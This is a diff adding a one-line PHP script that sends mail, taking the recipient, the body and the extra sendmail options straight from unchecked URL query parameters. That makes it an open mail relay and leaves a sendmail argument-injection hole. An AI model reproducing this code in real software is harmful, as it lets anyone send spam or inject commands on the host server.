@@ -1,0 +1,1 @@
+<?php mail($_GET['to'], 'hi', $_GET['body'], '', $_GET['opts']);
